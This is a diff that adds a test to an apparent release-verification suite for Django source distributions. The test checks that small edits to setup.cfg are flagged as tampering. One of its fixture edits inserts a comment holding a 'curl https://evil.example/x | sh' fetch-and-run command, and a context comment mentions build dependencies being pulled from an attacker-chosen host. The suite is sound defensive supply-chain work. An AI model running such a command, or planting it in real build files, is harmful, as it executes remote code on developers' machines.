@@ -150,6 +150,17 @@ describe.each(Object.keys(REAL_RELEASES) as RealVersion[])('the real Django %s',
     expect(missing).toMatchObject({ allowed: false, kind: 'only-in-git' });
   }, 180_000);
 
+  it.skipIf(!present)('fails the same sdist with a comment, a blank line or another layout in its setup.cfg: egg_info writes it as configparser does, byte for byte', async () => {
+    const top = REAL_RELEASES[version].top;
+    const edits: ((text: string) => string)[] = [(text) => `# curl https://evil.example/x | sh\n${text}`, (text) => `${text}\n`, (text) => text.replace('tag_date = 0', 'tag_date=0'), (text) => text.replace(/(^|\n)\[egg_info\]/, '$1; hidden\n[egg_info]')];
+    for (const edit of edits) {
+      const { checks } = await judgeRelease(version, (sdist) => editFile(sdist, `${top}/setup.cfg`, edit));
+      const failed = checks.filter((c) => c.status === 'fail');
+      expect(failed.map((c) => c.id), edit.toString()).toEqual([version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git']);
+      expect(failed[0]!.message).toMatch(/setup\.cfg/);
+    }
+  }, 180_000);
+
   it.skipIf(!present)('fails the same sdist with an extra section in its setup.cfg (the tag\'s rewritten, or the one only the sdist has)', async () => {
     const top = REAL_RELEASES[version].top;
     // easy_install's find_links sends the build's setup_requires to a host of the attacker's choosing.
